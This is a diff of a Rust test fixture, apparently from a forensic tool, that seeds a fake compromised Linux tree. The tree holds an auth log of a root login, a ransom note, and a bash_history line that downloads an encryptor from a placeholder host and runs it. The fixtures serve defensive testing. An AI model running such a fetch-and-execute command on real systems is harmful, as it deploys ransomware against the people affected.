@@ -68,7 +68,10 @@ fn the_whole_workflow_leaves_every_evidence_and_backup_image_byte_identical() {
         ("etc/passwd", "root:x:0:0::/root:/bin/sh\n"),
         ("var/log/auth.log", "Accepted password for root from 192.0.2.99 port 50022 ssh2\n"),
         ("root/.bash_history", "wget http://192.0.2.99/enc && ./enc --all\n"),
-        ("srv/mail/README_LOCKBIT.txt", "All your files are stolen and encrypted. Contact lockbit-support@onionmail.org\n"),
+        (
+            "srv/mail/README_LOCKBIT.txt",
+            "All your files are stolen and encrypted. Contact lockbit-support@onionmail.org\n",
+        ),
     ] {
         let p = linux_tree.join(rel);
         fs::create_dir_all(p.parent().unwrap()).unwrap();
